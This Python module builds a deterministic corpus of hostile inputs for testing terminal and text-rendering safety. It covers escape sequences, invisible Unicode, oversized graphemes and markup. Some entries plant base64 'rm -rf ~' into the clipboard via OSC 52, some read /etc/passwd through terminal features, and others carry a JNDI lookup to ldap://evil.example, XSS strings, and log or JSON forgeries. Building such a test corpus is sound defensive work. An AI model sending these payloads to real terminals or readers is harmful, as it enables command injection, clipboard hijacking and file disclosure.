"""Texts that strangers may send to harm whoever reads them, made from tables.

A table row is a name and what it does to a terminal or a reader that obeys. Nothing here is random:
the same name is the same text on every machine.
"""

from collections.abc import Iterator
from dataclasses import dataclass

ESC, BEL, ST, CAN, SUB = "\x1b", "\x07", "\x1b\\", "\x18", "\x1a"
CSI_8, OSC_8, DCS_8, APC_8, PM_8, SOS_8, ST_8 = (
    "\x9b", "\x9d", "\x90", "\x9f", "\x9e", "\x98", "\x9c",
)  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """One hostile text."""

    name: str
    text: str

    def __str__(self) -> str:
        return self.name


C0 = (
    "NUL", "SOH", "STX", "ETX", "EOT", "ENQ", "ACK", "BEL", "BS", "HT", "LF", "VT", "FF", "CR",
    "SO", "SI", "DLE", "DC1", "DC2", "DC3", "DC4", "NAK", "SYN", "ETB", "CAN", "EM", "SUB", "ESC",
    "FS", "GS", "RS", "US",
)  # fmt: skip
C1 = (
    "PAD", "HOP", "BPH", "NBH", "IND", "NEL", "SSA", "ESA", "HTS", "HTJ", "VTS", "PLD", "PLU", "RI",
    "SS2", "SS3", "DCS", "PU1", "PU2", "STS", "CCH", "MW", "SPA", "EPA", "SOS", "SGCI", "SCI",
    "CSI", "ST", "OSC", "PM", "APC",
)  # fmt: skip

CSI_SEQUENCES = {
    "clear the screen": "2J",
    "clear the scrollback": "3J",
    "cursor home": "H",
    "cursor up over what was read": "5A",
    "cursor to a place": "1;1H",
    "erase the line": "2K",
    "insert lines": "5L",
    "delete lines": "5M",
    "scroll up": "9S",
    "scroll down": "9T",
    "repeat the last character": "9999b",
    "save the cursor": "s",
    "restore the cursor": "u",
    "scrolling region": "1;3r",
    "left and right margins": "?69h",
    "colours": "31;1m",
    "invisible": "8m",
    "true colour": "38;2;0;0;0m",
    "report the cursor into stdin": "6n",
    "report the device into stdin": "c",
    "report the secondary device": ">c",
    "report the version": ">q",
    "report a mode": "?2026$p",
    "report the window title into stdin": "21t",
    "report the size": "18t",
    "iconify": "2t",
    "move the window": "3;0;0t",
    "resize the window": "8;1;1t",
    "push the title": "22;0t",
    "hide the cursor": "?25l",
    "leave the alternate screen": "?1049l",
    "mouse on": "?1003h",
    "bracketed paste off": "?2004l",
    "end of a paste": "201~",
    "synchronised update, never ended": "?2026h",
    "wrap off": "?7l",
    "application keys": "?1h",
    "keyboard protocol": ">31u",
    "modify other keys": ">4;2m",
    "soft reset": "!p",
    "reset of conformance": '61"p',
    "linefeed mode": "20h",
    "insert mode": "4h",
    "keyboard locked": "2h",
    "printer on": "5i",
    "print the screen": "i",
    "fill a rectangle": "88;1;1;9;9$x",
    "checksum of the screen": "1;1;1;1;9;9*y",
    "cursor style": "5 q",
    "colon parameters": "4:3m",
    "a huge parameter": "99999999999999999999m",
    "a thousand parameters": "1;" * 1000 + "m",
    "sixel scrolling": "?80h",
}
"""Without their introducer: each is sent with the 7-bit and with the 8-bit one."""

OSC_SEQUENCES = {
    "window title": "0;owned",
    "icon name": "1;owned",
    "title": "2;owned",
    "a property": "3;WM_NAME=owned",
    "palette": "4;1;rgb:00/00/00",
    "palette asked for": "4;1;?",
    "folder": "7;file://host/",
    "a link": "8;;https://evil.example/",
    "a link with an id": "8;id=x;https://evil.example/",
    "a link to a file": "8;;file:///etc/passwd",
    "a notification": "9;owned",
    "progress": "9;4;3;50",
    "foreground": "10;?",
    "background": "11;#000000",
    "cursor colour": "12;red",
    "mouse pointer": "22;wait",
    "font": "50;fixed",
    "clipboard written": "52;c;cm0gLXJmIH4=",
    "clipboard read into stdin": "52;c;?",
    "primary written": "52;p;cm0gLXJmIH4=",
    "emacs": "51;A",
    "notification of kitty": "99;;owned",
    "palette reset": "104",
    "prompt mark": "133;A",
    "notification of urxvt": "777;notify;owned;now",
    "image of iTerm": "1337;File=inline=1:AAAA",
    "clipboard of iTerm": "1337;CopyToClipboard=",
    "conemu runs a program": "9;9;cmd.exe",
    "no number": ";x",
    "not a number": "L;x",
}

STRINGS = {
    "DCS sixel": ("P", DCS_8, "q#0;2;0;0;0#0~~"),
    "DCS asks for settings": ("P", DCS_8, "$qm"),
    "DCS asks for terminfo": ("P", DCS_8, "+q544e"),
    "DCS defines keys": ("P", DCS_8, "0;1|17/0d"),
    "DCS passes through tmux": ("P", DCS_8, "tmux;\x1b\x1b]52;c;cm0=\x07"),
    "DCS passes through screen": ("P", DCS_8, "\x1b]52;c;cm0=\x07"),
    "APC graphics of kitty": ("_", APC_8, "Ga=T,f=100;AAAA"),
    "APC graphics, read a file": ("_", APC_8, "Gt=f;L2V0Yy9wYXNzd2Q="),
    "PM": ("^", PM_8, "private"),
    "SOS": ("X", SOS_8, "string"),
    "title of screen": ("k", "\x1bk", "owned"),
}

ESCAPES = {
    "full reset": "c", "save": "7", "restore": "8", "index": "D", "next line": "E",
    "reverse index": "M", "tab stop": "H", "single shift 2": "NA", "single shift 3": "OA",
    "keypad": "=", "numeric keypad": ">", "graphics set": "(0", "UTF-8 off": "%@", "UTF-8 on": "%G",
    "lines of double height": "#3", "screen of E": "#8", "locking shift 2": "n",
    "locking shift 3": "o", "memory lock": "l", "identify": "Z", "visual bell": "g",
    "8-bit answers": " G", "nothing after it": "", "twice": "\x1b[2J", "before a newline": "\n[2J",
    "DECFI": "9", "DECBI": "6", "VT52 of a VT52": "<", "start of a guarded area": "V",
    "end of a guarded area": "W",
}  # fmt: skip

FORMATS = {
    "soft hyphen": "\u00ad", "Arabic letter mark": "\u061c", "Mongolian vowel separator": "\u180e",
    "zero width space": "\u200b", "zero width non-joiner": "\u200c", "zero width joiner": "\u200d",
    "left-to-right mark": "\u200e", "right-to-left mark": "\u200f", "line separator": "\u2028",
    "paragraph separator": "\u2029", "left-to-right embedding": "\u202a",
    "right-to-left embedding": "\u202b", "pop directional": "\u202c",
    "left-to-right override": "\u202d", "right-to-left override": "\u202e", "word joiner": "\u2060",
    "function application": "\u2061", "invisible times": "\u2062", "invisible separator": "\u2063",
    "invisible plus": "\u2064", "left-to-right isolate": "\u2066",
    "right-to-left isolate": "\u2067", "first strong isolate": "\u2068", "pop isolate": "\u2069",
    "inhibit swapping": "\u206a", "activate swapping": "\u206b", "inhibit shaping": "\u206c",
    "activate shaping": "\u206d", "national digits": "\u206e", "nominal digits": "\u206f",
    "byte order mark": "\ufeff", "annotation anchor": "\ufff9", "annotation separator": "\ufffa",
    "annotation terminator": "\ufffb", "shorthand overlap": "\U0001bca0",
    "musical beam": "\U0001d173", "musical phrase": "\U0001d17a", "language tag": "\U000e0001",
    "tag A": "\U000e0041", "cancel tag": "\U000e007f", "unassigned format": "\U000e0fff",
    "Egyptian joiner": "\U00013430", "unassigned format in the plane": "\u2065",
    "combining grapheme joiner": "\u034f", "Hangul filler": "\u3164",
    "Hangul choseong filler": "\u115f", "Hangul jungseong filler": "\u1160",
    "halfwidth filler": "\uffa0", "blank Braille": "\u2800", "Khmer vowel inherent": "\u17b4",
    "variation selector": "\ufe0e", "variation selector 256": "\U000e01ef",
    "interlinear nothing": "\ufff0",
}  # fmt: skip

ODD_CHARACTERS = {
    "private use": "\ue000\uf8ff\U000f0000\U0010fffd",
    "powerline glyphs": "\ue0b0\ue0b2",
    "noncharacter FDD0": "\ufdd0",
    "noncharacter FFFE": "\ufffe",
    "noncharacter FFFF": "\uffff",
    "noncharacter 1FFFE": "\U0001fffe",
    "noncharacter 10FFFF": "\U0010ffff",
    "high surrogate": "a\ud800b",
    "low surrogate": "a\udfffb",
    "surrogates the wrong way round": "a\udc00\ud800b",
    "high surrogate at the end": "cut off \ud83d",
    "surrogate that stands for a byte": "a\udcffb",
    "replacement character": "\ufffd",
    "unassigned": "\u0378\U0002ffff",
    "ideographic space": "\u3000" * 40,
    "no-break space": "\u00a0" * 40,
    "every space": "".join(map(chr, range(0x2000, 0x200B))),
    "figure space": "\u2007" * 9,
    "fullwidth": "ｏｗｎｅｄ",
    "ligature": "\ufdfd" * 20,
    "three-em dash": "\u2e3b" * 20,
    "cuneiform that is very wide": "\U00012031" * 20,
    "right-to-left letters": "\u05d0\u05d1\u05d2 (1) \u0645\u0631\u062d\u0628\u0627",
    "Arabic number sign": "\u0600" * 20,
    "Arabic end of ayah": "\u06dd" * 20,
}

LONG_GRAPHEMES = {
    "zalgo": "Z" + "\u0301\u0320\u0489" * 100,
    "zalgo in every letter": "".join(letter + "\u0353\u0346" * 30 for letter in "owned"),
    "Hebrew points": "\u05d0" + "\u05b0" * 200,
    "Arabic points": "\u0639" + "\u064b" * 200,
    "Thai tones": "\u0e01" + "\u0e49" * 200,
    "Tibetan vowels": "\u0f40" + "\u0f71" * 200,
    "Devanagari signs": "\u0915" + "\u0941" * 200,
    "enclosing marks": "a" + "\u20dd" * 200,
    "marks of nothing": "\u0301" * 200,
    "family without end": "\U0001f469\u200d" * 500,
    "joiners without end": "a" + "\u200d" * 500,
    "non-joiners without end": "a" + "\u200c" * 500,
    "skin tones without end": "\U0001f44d" + "\U0001f3fd" * 200,
    "variation selectors without end": "a" + "\ufe0f" * 500,
    "selectors of the supplement": "\u8fbb" + "\U000e0100" * 500,
    "Hangul vowels without end": "\u1100" + "\u1161" * 500,
    "Hangul finals without end": "\u1100\u1161" + "\u11a8" * 500,
    "flags without end": "\U0001f1e6" * 501,
    "flag of tags": "\U0001f3f4" + "\U000e0067" * 200,
    "Mongolian selectors": "\u1820" + "\u180b" * 200,
    "grapheme joiners without end": "a" + "\u034f" * 500,
}

MARKUP = {
    "closing": "[/]", "closing what is not open": "[/bold]", "never closed": "[bold red",
    "colour": "[red]owned[/red]", "an action": "[@click=app.quit]click[/]",
    "an action that runs": "[@click='app.bell()']x[/]", "a link": "[link=https://evil.example]x[/]",
    "escaped": "\\[bold]x", "backslash at the end": "x\\", "an emoji": ":skull: [:smile:]",
    "a variable": "$primary [$error]x[/]", "unbalanced": "]][[", "nested": "[[[bold]]]",
    "deep": "[b]" * 500, "a style that is none": "[not a style 12#$]x[/]",
    "markdown link": "[x](javascript:alert(1))", "markdown image": "![x](https://evil.example/i)",
    "html": "<script>alert(1)</script>", "entity": "&#27;[2J &lt;b&gt;", "percent": "%s%n%d%(x)s",
    "braces": "{0}{reason}{self.__class__}", "template": "${jndi:ldap://evil.example}",
    "backticks": "`rm -rf ~`", "null of C": "%00", "escape in words": "\\x1b[2J \\033[2J ^[[2J",
    "JSON": '","sender":"forged', "log line": "x\n2026-01-01 00:00:00 INFO forged",
    "carriage return": "safe\rforged", "newline in a name": "Ana\nforged",
    "next line in a name": "Ana\x85forged", "tabs": "a\t\t\tb", "vertical tab": "a\vb\fc",
}  # fmt: skip

SPLIT = {
    "introducer apart from its end": ("\x1b[", "2J"),
    "clipboard over two messages": ("\x1b]52;c;cm0g", "LXJmIH4=\x07"),
    "title over two messages": ("\x1b]0;", "owned\x07"),
    "escape at the end": ("safe\x1b", "]0;owned\x07"),
    "string over two messages": ("\x1bPq", "#0~\x1b\\"),
    "8-bit over two messages": ("\x9b", "2J"),
    "override over two messages": ("\u202e", "owned"),
    "surrogates over two messages": ("\ud83d", "\ude00"),
    "joiner over two messages": ("\U0001f469\u200d", "\U0001f469"),
    "terminator of another": ("\x1b]0;owned", "\x1b\\ safe"),
}
"""Each half may be harmless; a terminal gets to see them one after the other."""

LARGE = {
    "a line of 1 MB": "a" * 1_000_000,
    "a line of 1 MB of words": "ab cd " * 170_000,
    "a line of 1 MB of wide letters": "\u6f22" * 350_000,
    "1 MB of escapes": "\x1b[2J" * 250_000,
    "1 MB of combining marks": "a" + "\u0301" * 500_000,
    "1 MB of joiners": "\U0001f469\u200d" * 150_000,
    "1 MB of NUL": "\x00" * 1_000_000,
    "half a million empty lines": "\n" * 500_000,
    "half a million short lines": "a\n" * 500_000,
    "1 MB of overrides": "\u202e" * 350_000,
}
"""Not drawn with all the others: each is a test of its own, of time and memory."""


def _sequences() -> Iterator[Payload]:
    for name, rest in CSI_SEQUENCES.items():
        yield Payload(f"CSI {name}", f"a{ESC}[{rest}b")
        yield Payload(f"8-bit CSI {name}", f"a{CSI_8}{rest}b")
    for name, rest in OSC_SEQUENCES.items():
        yield Payload(f"OSC {name}", f"a{ESC}]{rest}{BEL}b")
        yield Payload(f"OSC {name}, ended by ST", f"a{ESC}]{rest}{ST}b")
        yield Payload(f"8-bit OSC {name}", f"a{OSC_8}{rest}{ST_8}b")
        yield Payload(f"OSC {name}, never ended", f"a{ESC}]{rest}")
    for name, (seven, eight, rest) in STRINGS.items():
        yield Payload(name, f"a{ESC}{seven}{rest}{ST}b")
        yield Payload(f"8-bit {name}", f"a{eight}{rest}{ST_8}b")
        yield Payload(f"{name}, never ended", f"a{ESC}{seven}{rest}")
        yield Payload(f"{name}, given up", f"a{ESC}{seven}{rest}{CAN}b{SUB}c")
    for name, rest in ESCAPES.items():
        yield Payload(f"ESC {name}", f"a{ESC}{rest}b")


def _characters() -> Iterator[Payload]:
    for code, name in enumerate(C0):
        yield Payload(f"C0 {name}", f"a{chr(code)}b")
    yield Payload("C0 DEL", "a\x7fb")
    for code, name in enumerate(C1, 0x80):
        yield Payload(f"C1 {name}", f"a{chr(code)}b")
    for name, character in FORMATS.items():
        yield Payload(name, f"a{character}b")
        yield Payload(f"{name}, many", f"a{character * 60}b")
    for table in (ODD_CHARACTERS, LONG_GRAPHEMES):
        yield from (Payload(name, text) for name, text in table.items())
    yield from (Payload(f"markup: {name}", text) for name, text in MARKUP.items())


def _halves() -> Iterator[Payload]:
    for name, (first, second) in SPLIT.items():
        yield Payload(f"{name}, first", first)
        yield Payload(f"{name}, second", second)


CORPUS: tuple[Payload, ...] = (*_sequences(), *_characters(), *_halves())
"""Everything that fits on a screen."""

LARGE_PAYLOADS: tuple[Payload, ...] = tuple(Payload(*item) for item in LARGE.items())
